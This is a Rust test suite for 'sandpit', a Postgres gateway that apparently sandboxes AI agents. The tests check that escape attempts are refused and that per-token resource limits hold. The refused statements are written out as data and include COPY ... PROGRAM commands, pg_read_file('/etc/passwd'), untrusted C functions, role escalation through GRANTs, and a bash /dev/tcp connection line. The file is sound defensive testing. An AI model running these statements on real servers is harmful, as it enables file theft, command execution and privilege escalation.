//! The hostile SQL suite: statements that try to leave the sandbox, run as the agent through
//! the gateway (the real binary, real scratch Postgres servers, tokio-postgres), each
//! asserting the refusal with its SQLSTATE or the harmless outcome; then the golden and the
//! other tasks are checked byte for byte. Also the per-token resource limits.

use crate::support::harness;

use std::sync::OnceLock;
use std::time::Duration;

use crate::support::harness::{connect, sqlstate, Gateway};
use serde_json::Value;
use tokio_postgres::{Client, SimpleQueryMessage};

const GOLDEN: &str = "create table items(id int primary key, name text not null);\n\
insert into items select g, 'item ' || g from generate_series(1, 1000) g;\n\
create table notes(id int primary key, body text not null);\n\
insert into notes values (1, 'golden note');\n";

const CONFIG: &str = "[postgres]\ntemp_file_limit = \"1MB\"\n\
[tokens]\nstatement_timeout = \"5m\"\nidle_in_transaction_timeout = \"10m\"\n";

/// One gateway for the whole file, alive as long as the test process.
fn gw() -> &'static Gateway {
    static G: OnceLock<&'static Gateway> = OnceLock::new();
    G.get_or_init(|| harness::process_gateway(|| Gateway::start(Some(GOLDEN), Some(CONFIG))))
}

fn dsn(v: &Value) -> String {
    v["dsn"].as_str().expect("dsn").to_string()
}

fn id(v: &Value) -> String {
    v["id"].as_str().expect("id").to_string()
}

async fn agent(task: &str) -> (Value, Client) {
    let t = gw().issue(task, 600);
    let c = connect(&dsn(&t)).await.expect("connect as agent");
    (t, c)
}

/// First column of the first row, as text.
async fn one(c: &Client, q: &str) -> Option<String> {
    let msgs = c
        .simple_query(q)
        .await
        .unwrap_or_else(|e| panic!("{q}: {e}"));
    msgs.into_iter().find_map(|m| match m {
        SimpleQueryMessage::Row(r) => Some(r.get(0).map(str::to_string)),
        _ => None,
    })?
}

/// Run `q`; it must fail with one of `codes`. Returns "code: message".
async fn refused(c: &Client, q: &str, codes: &[&str]) -> String {
    match c.simple_query(q).await {
        Ok(_) => panic!("not refused: {q}"),
        Err(e) => {
            let code = sqlstate(&e);
            let msg = e
                .as_db_error()
                .map(|d| d.message().to_string())
                .unwrap_or_else(|| e.to_string());
            assert!(
                codes.contains(&code.as_str()),
                "{q}: expected one of {codes:?}, got {code}: {msg}"
            );
            eprintln!("refused as expected: {q} -> {code} {msg}");
            format!("{code}: {msg}")
        }
    }
}

/// md5 of every row of every table of the golden, in key order.
async fn checksum(c: &Client) -> String {
    one(
        c,
        "select md5(coalesce((select string_agg(t::text, ',' order by id) from items t), '')) \
         || md5(coalesce((select string_agg(t::text, ',' order by id) from notes t), ''))",
    )
    .await
    .expect("checksum")
}

#[tokio::test]
async fn server_side_programs_and_files_are_refused() {
    let (_t, c) = agent("hostile-files").await;
    for q in [
        "COPY (select 1) TO PROGRAM 'id'",
        "COPY items FROM PROGRAM 'cat /etc/passwd'",
        "COPY items TO '/tmp/sandpit-escape.csv'",
        "COPY items FROM '/etc/passwd'",
        "select pg_read_file('/etc/passwd')",
        "select pg_read_file('postgresql.conf')",
        "select pg_read_binary_file('/etc/passwd')",
        "select pg_ls_dir('.')",
        "select pg_ls_dir('/')",
        "select pg_stat_file('postgresql.conf')",
        "select lo_import('/etc/passwd')",
        "select lo_export(lo_create(0), '/tmp/sandpit-escape')",
        "select pg_ls_logdir()",
        "select pg_ls_waldir()",
        "select pg_current_logfile()",
    ] {
        refused(&c, q, &["42501"]).await;
    }
    assert!(!std::path::Path::new("/tmp/sandpit-escape.csv").exists());
    assert!(!std::path::Path::new("/tmp/sandpit-escape").exists());
    // Large objects inside the database are the agent's own business and work.
    assert!(one(&c, "select lo_create(0) > 0").await.as_deref() == Some("t"));
}

#[tokio::test]
async fn untrusted_languages_and_extensions_are_refused() {
    let (_t, c) = agent("hostile-extensions").await;
    for ext in [
        "dblink",
        "postgres_fdw",
        "file_fdw",
        "plpython3u",
        "plperlu",
        "adminpack",
    ] {
        let installed = one(
            &c,
            &format!("select count(*) from pg_available_extensions where name = '{ext}'"),
        )
        .await
            == Some("1".into());
        // Installed: only a superuser may create it (42501). Not installed on this machine:
        // 0A000. Either way the agent does not get it.
        let expect = if installed { "42501" } else { "0A000" };
        let why = refused(&c, &format!("CREATE EXTENSION {ext}"), &[expect]).await;
        eprintln!(
            "{ext}: {} ({why})",
            if installed {
                "installed, superuser only"
            } else {
                "not installed"
            }
        );
    }
    for q in [
        "CREATE LANGUAGE plpython3u",
        "CREATE FUNCTION evil() RETURNS int LANGUAGE c AS 'libc.so.6', 'getpid'",
        "CREATE FUNCTION evil2() RETURNS int LANGUAGE internal AS 'pg_backend_pid'",
        "CREATE EVENT TRIGGER evil ON ddl_command_start EXECUTE FUNCTION pg_backend_pid()",
        "CREATE TABLESPACE evil LOCATION '/tmp'",
    ] {
        refused(&c, q, &["42501", "0A000", "42883", "42P13"]).await;
    }
    // Trusted languages are fine: they run inside the scratch server as the agent.
    c.simple_query("CREATE FUNCTION ok() RETURNS int LANGUAGE plpgsql AS 'begin return 1; end'")
        .await
        .expect("plpgsql is available");
}

#[tokio::test]
async fn configuration_is_refused() {
    let (_t, c) = agent("hostile-config").await;
    for q in [
        "ALTER SYSTEM SET work_mem = '1GB'",
        "ALTER SYSTEM SET listen_addresses = '*'",
        "SET log_statement = 'none'",
        "SET session_replication_role = replica",
        "SET temp_file_limit = -1",
        "SET log_min_messages = debug5",
        "SET zero_damaged_pages = on",
        "SET allow_system_table_mods = on",
        "LOAD 'auto_explain'",
        "LOAD '/tmp/evil.so'",
        "select pg_reload_conf()",
        "select pg_rotate_logfile()",
        "select pg_promote()",
        "CHECKPOINT",
        "select current_setting('data_directory')",
        "select * from pg_hba_file_rules",
        "select * from pg_file_settings",
    ] {
        refused(&c, q, &["42501", "55P02"]).await;
    }
    assert_eq!(
        one(&c, "show temp_file_limit").await.as_deref(),
        Some("1MB")
    );
}

#[tokio::test]
async fn role_escalation_is_refused_and_the_agent_has_only_its_own_role() {
    let (_t, c) = agent("hostile-roles").await;
    for q in [
        "SET ROLE sandpit_admin",
        "SET SESSION AUTHORIZATION sandpit_admin",
        "ALTER ROLE agent SUPERUSER",
        "ALTER ROLE agent CREATEDB",
        "ALTER ROLE agent CREATEROLE",
        "ALTER ROLE agent REPLICATION",
        "ALTER ROLE agent BYPASSRLS",
        "ALTER ROLE sandpit_admin PASSWORD 'x'",
        "CREATE ROLE evil",
        "CREATE ROLE evil SUPERUSER",
        "GRANT pg_read_server_files TO agent",
        "GRANT pg_execute_server_program TO agent",
        "GRANT pg_write_server_files TO agent",
        "GRANT pg_read_all_settings TO agent",
        "GRANT pg_signal_backend TO agent",
        "GRANT sandpit_admin TO agent",
        "CREATE DATABASE other",
        "DROP DATABASE postgres",
        "ALTER DATABASE postgres OWNER TO agent",
    ] {
        refused(&c, q, &["42501"]).await;
    }
    let attrs = one(
        &c,
        "select row(rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls)::text \
         from pg_roles where rolname = current_user",
    )
    .await;
    assert_eq!(attrs.as_deref(), Some("(f,f,f,f,f)"));
    assert_eq!(
        one(&c, "select current_user || '/' || session_user")
            .await
            .as_deref(),
        Some("agent/agent")
    );
    // Exactly its own role: the database belongs to the admin (so the agent is not in
    // pg_database_owner), and the seatbelt and review roles are not the agent's.
    let member_of = one(
        &c,
        "select string_agg(rolname, ',' order by rolname) from pg_roles \
         where pg_has_role('agent', oid, 'member')",
    )
    .await;
    assert_eq!(member_of.as_deref(), Some("agent"));
    // Only its own database is open to it.
    let dbs = one(
        &c,
        "select string_agg(datname, ',' order by datname) from pg_database \
         where datallowconn and has_database_privilege('agent', datname, 'connect')",
    )
    .await;
    assert_eq!(dbs.as_deref(), Some("sandpit"));
}

#[tokio::test]
async fn other_sessions_are_the_agents_own_and_other_tokens_are_out_of_reach() {
    let (ta, a1) = agent("hostile-sessions-a").await;
    let a2 = connect(&dsn(&ta)).await.expect("second session");
    let (_tb, b) = agent("hostile-sessions-b").await;
    let a2_pid = one(&a2, "select pg_backend_pid()").await.expect("pid");
    let b_pid = one(&b, "select pg_backend_pid()").await.expect("pid");

    // A backend of another token is in another server: this one does not know the pid.
    let r = one(&a1, &format!("select pg_terminate_backend({b_pid})")).await;
    assert_eq!(r.as_deref(), Some("f"));
    let r = one(&a1, &format!("select pg_cancel_backend({b_pid})")).await;
    assert_eq!(r.as_deref(), Some("f"));
    assert_eq!(one(&b, "select 1").await.as_deref(), Some("1"));
    let seen = one(
        &a1,
        &format!("select count(*) from pg_stat_activity where pid = {b_pid}"),
    )
    .await;
    assert_eq!(seen.as_deref(), Some("0"));

    // Sessions of the same token are the agent's own (same role, same scratch server):
    // cancelling one is allowed and harmless to everything else.
    let sleeper = tokio::spawn(async move { a2.simple_query("select pg_sleep(30)").await });
    tokio::time::sleep(Duration::from_millis(300)).await;
    let r = one(&a1, &format!("select pg_cancel_backend({a2_pid})")).await;
    assert_eq!(r.as_deref(), Some("t"));
    let e = sleeper.await.expect("join").expect_err("cancelled");
    assert_eq!(sqlstate(&e), "57014");
    // The postmaster and auxiliary processes are not backends it may signal.
    let aux = one(
        &a1,
        "select count(*) filter (where pg_terminate_backend(pid)) from pg_stat_activity \
         where backend_type <> 'client backend'",
    )
    .await;
    assert_eq!(aux.as_deref(), Some("0"));
    assert_eq!(one(&b, "select 1").await.as_deref(), Some("1"));
    assert_eq!(one(&a1, "select 1").await.as_deref(), Some("1"));
}

#[tokio::test]
async fn every_database_name_lands_in_the_tokens_own_scratch_database() {
    let (ta, a) = agent("hostile-dbnames-a").await;
    let (tb, b) = agent("hostile-dbnames-b").await;
    a.simple_query("create table mine(v text); insert into mine values ('a')")
        .await
        .expect("a marker");
    b.simple_query("create table mine(v text); insert into mine values ('b')")
        .await
        .expect("b marker");
    let base = dsn(&ta);
    let (prefix, _) = base.rsplit_once('/').expect("dsn db");
    for db in [
        "postgres".to_string(),
        "template1".into(),
        "template0".into(),
        "sandpit".into(),
        "golden".into(),
        id(&tb),
        format!("{}_scratch", id(&tb)),
        "hostile-dbnames-b".into(),
    ] {
        let c = connect(&format!("{prefix}/{db}"))
            .await
            .unwrap_or_else(|e| panic!("dbname {db}: {e}"));
        assert_eq!(
            one(
                &c,
                "select current_database() || ':' || (select string_agg(v, ',') from mine)"
            )
            .await
            .as_deref(),
            Some("sandpit:a"),
            "dbname {db}"
        );
    }
    // Another token's user name with this token's secret: refused.
    let secret = base
        .split("://")
        .nth(1)
        .and_then(|s| s.split('@').next())
        .and_then(|s| s.split(':').nth(1))
        .expect("secret");
    let host = base.split('@').nth(1).expect("host");
    let wrong = format!("postgresql://{}:{secret}@{host}", id(&tb));
    let e = connect(&wrong).await.expect_err("refused");
    assert_eq!(sqlstate(&e), "28P01");
    assert_eq!(
        one(&b, "select string_agg(v, ',') from mine")
            .await
            .as_deref(),
        Some("b")
    );
}

#[tokio::test]
async fn the_scratch_server_has_no_way_onto_the_network() {
    let (t, c) = agent("hostile-network").await;
    for (q, codes) in [
        (
            "CREATE SUBSCRIPTION evil CONNECTION 'host=1.1.1.1 dbname=x' PUBLICATION p",
            &["42501"][..],
        ),
        ("select dblink_connect('host=1.1.1.1')", &["42883"][..]),
        (
            "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '1.1.1.1')",
            &["42704"][..],
        ),
        (
            "COPY (select 1) TO PROGRAM 'bash -c \"exec 3<>/dev/tcp/1.1.1.1/80\"'",
            &["42501"][..],
        ),
        ("CREATE EXTENSION postgres_fdw", &["42501", "0A000"][..]),
        ("CREATE EXTENSION dblink", &["42501", "0A000"][..]),
    ] {
        refused(&c, q, codes).await;
    }
    // Reached over a unix socket only; no TCP listener.
    assert_eq!(one(&c, "select inet_server_addr()::text").await, None);
    assert_eq!(one(&c, "show listen_addresses").await.as_deref(), Some(""));

    // And the process itself sits in an empty network namespace when the gateway may make one.
    let pidfile = gw()
        .instances_dir()
        .join(id(&t))
        .join("data")
        .join("postmaster.pid");
    let pid: i32 = std::fs::read_to_string(pidfile)
        .ok()
        .and_then(|s| s.lines().next().and_then(|l| l.trim().parse().ok()))
        .expect("postmaster pid");
    let theirs = std::fs::read_link(format!("/proc/{pid}/ns/net")).expect("ns");
    let ours = std::fs::read_link("/proc/self/ns/net").expect("ns");
    // Without one (not root), the scratch server is contained by the role model only.
    if !harness::require(
        theirs != ours,
        "a network namespace",
        "needs root (CAP_SYS_ADMIN)",
    ) {
        return;
    }
    let dev = std::fs::read_to_string(format!("/proc/{pid}/net/dev")).expect("net/dev");
    let ifaces: Vec<&str> = dev
        .lines()
        .skip(2)
        .filter_map(|l| l.split(':').next().map(str::trim))
        .collect();
    assert_eq!(
        ifaces,
        vec!["lo"],
        "interfaces in the scratch server's namespace"
    );
    let route = std::fs::read_to_string(format!("/proc/{pid}/net/route")).expect("route");
    let routes = route.lines().filter(|l| !l.starts_with("Iface")).count();
    assert_eq!(routes, 0, "no routes: {route}");
}

#[tokio::test]
async fn the_golden_and_other_tasks_are_unchanged_by_a_hostile_task() {
    let (_f, fresh) = agent("hostile-golden-before").await;
    let golden_before = checksum(&fresh).await;
    let (_tb, bystander) = agent("hostile-golden-bystander").await;
    bystander
        .simple_query(
            "insert into notes values (2, 'bystander'); update items set name = 'b' where id = 7",
        )
        .await
        .expect("bystander writes");
    let bystander_before = checksum(&bystander).await;
    assert_ne!(bystander_before, golden_before);

    let (_ta, a) = agent("hostile-golden-attacker").await;
    for q in [
        "update items set name = 'pwned'",
        "delete from notes",
        "truncate items",
        "alter table items add column x int",
        "drop table items cascade",
        "drop schema public cascade",
        "create schema public",
    ] {
        a.simple_query(q)
            .await
            .unwrap_or_else(|e| panic!("{q}: {e}"));
    }
    for q in [
        "drop database sandpit",
        "drop database postgres",
        "alter database template1 rename to x",
        "COPY (select 1) TO '/tmp/sandpit-golden'",
    ] {
        refused(&a, q, &["42501", "55006", "3D000"]).await;
    }
    drop(a);
    let (_g, after) = agent("hostile-golden-after").await;
    assert_eq!(checksum(&after).await, golden_before, "golden changed");
    assert_eq!(
        checksum(&bystander).await,
        bystander_before,
        "bystander changed"
    );
}

// ---- resource limits per token ----

#[tokio::test]
async fn statement_timeout_holds_even_after_the_agent_turns_it_off() {
    let t = gw().issue_with(serde_json::json!({
        "task": "limits-statement-timeout", "ttl_seconds": 600, "statement_timeout_ms": 1000
    }));
    assert_eq!(t["statement_timeout_ms"], 1000);
    let c = connect(&dsn(&t)).await.expect("connect");
    assert_eq!(
        one(&c, "show statement_timeout").await.as_deref(),
        Some("1s")
    );
    let e = c
        .simple_query("select pg_sleep(10)")
        .await
        .expect_err("timeout");
    assert_eq!(sqlstate(&e), "57014");
    // The agent may change its own session's setting; the gateway's cancel still comes.
    c.simple_query("set statement_timeout = 0")
        .await
        .expect("set");
    let e = c
        .simple_query("select pg_sleep(30)")
        .await
        .expect_err("gateway timeout");
    assert_eq!(sqlstate(&e), "57014");
    // The session is still usable afterwards.
    assert_eq!(one(&c, "select 1").await.as_deref(), Some("1"));
    let m = metrics_text();
    assert!(m.contains("sandpit_statement_timeouts_total"), "{m}");
}

fn metrics_text() -> String {
    let g = gw();
    let url = format!("{}/metrics", g.api);
    harness::http_ok("GET", &url, Some(&g.admin_key), harness::Body::None)
        .expect("metrics")
        .body
}

#[tokio::test]
async fn idle_in_transaction_timeout_ends_the_session() {
    let t = gw().issue_with(serde_json::json!({
        "task": "limits-idle", "ttl_seconds": 600, "idle_in_transaction_timeout_ms": 500
    }));
    let c = connect(&dsn(&t)).await.expect("connect");
    // Control: a token with the default (10 min) waits the same time in a transaction fine.
    let (_d, control) = agent("limits-idle-control").await;
    control
        .simple_query("begin; select 1")
        .await
        .expect("begin");
    c.simple_query("begin; select 1").await.expect("begin");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(one(&control, "select 2").await.as_deref(), Some("2"));
    let e = c.simple_query("select 1").await.expect_err("ended");
    eprintln!("idle in transaction: {e:?}");
    assert!(c.is_closed() || e.is_closed() || sqlstate(&e) == "25P03");
    // The token itself is fine: a new session works.
    let c2 = connect(&dsn(&t)).await.expect("reconnect");
    assert_eq!(one(&c2, "select 1").await.as_deref(), Some("1"));
}

#[tokio::test]
async fn temp_file_limit_is_set_by_the_gateway_and_cannot_be_raised() {
    let (_t, c) = agent("limits-temp").await;
    c.simple_query("set work_mem = '64kB'")
        .await
        .expect("work_mem");
    let e = c
        .simple_query(
            "select count(*) from (select g from generate_series(1, 1000000) g order by g desc) s",
        )
        .await
        .expect_err("temp file limit");
    assert_eq!(sqlstate(&e), "53400");
    refused(&c, "set temp_file_limit = '10GB'", &["42501"]).await;
    assert_eq!(one(&c, "select 1").await.as_deref(), Some("1"));
}

#[tokio::test]
async fn max_connections_per_token() {
    let t = gw().issue_with(serde_json::json!({
        "task": "limits-connections", "ttl_seconds": 600, "max_connections": 2
    }));
    let c1 = connect(&dsn(&t)).await.expect("1");
    let _c2 = connect(&dsn(&t)).await.expect("2");
    let e = connect(&dsn(&t)).await.expect_err("third refused");
    assert_eq!(sqlstate(&e), "53300");
    assert_eq!(one(&c1, "select 1").await.as_deref(), Some("1"));
}

#[tokio::test]
async fn prepared_statements_beyond_the_tracking_limit_are_refused_with_53400() {
    let (_t, c) = agent("limits-prepared").await;
    let c = std::sync::Arc::new(c);
    let limit = 10_000usize;
    // Spawned together, tokio-postgres pipelines the Parse messages on the one connection.
    let mut set = tokio::task::JoinSet::new();
    for i in 0..=limit {
        let c = c.clone();
        set.spawn(async move { c.prepare(&format!("select {i}")).await });
    }
    let mut kept = Vec::new();
    let mut refused = Vec::new();
    while let Some(r) = set.join_next().await {
        match r.expect("join") {
            Ok(s) => kept.push(s),
            Err(e) => refused.push(sqlstate(&e)),
        }
    }
    assert_eq!(kept.len(), limit);
    assert_eq!(refused, vec!["53400".to_string()]);
    // Closing one (tokio-postgres sends Close when a Statement is dropped) makes room.
    drop(kept.pop());
    let s = c.prepare("select 'again'").await.expect("room again");
    let row = c.query_one(&s, &[]).await.expect("run");
    assert_eq!(row.get::<_, &str>(0), "again");
    assert_eq!(one(&c, "select 1").await.as_deref(), Some("1"));
}

#[tokio::test]
async fn prepared_statement_text_beyond_the_byte_limit_is_refused_with_53400() {
    let (_t, c) = agent("limits-prepared-bytes").await;
    let pad = "x".repeat(1024 * 1024);
    let mut kept = Vec::new();
    let mut refused_at = None;
    // 32 MiB per session: the 32nd statement of 1 MiB text cannot fit.
    for i in 0..40 {
        match c.prepare(&format!("select {i} /* {pad} */")).await {
            Ok(s) => kept.push(s),
            Err(e) => {
                assert_eq!(sqlstate(&e), "53400");
                refused_at = Some(i);
                break;
            }
        }
    }
    assert_eq!(refused_at, Some(31));
    drop(kept.pop());
    let s = c
        .prepare(&format!("select 'fits' /* {pad} */"))
        .await
        .expect("room again");
    let row = c.query_one(&s, &[]).await.expect("run");
    assert_eq!(row.get::<_, &str>(0), "fits");
}
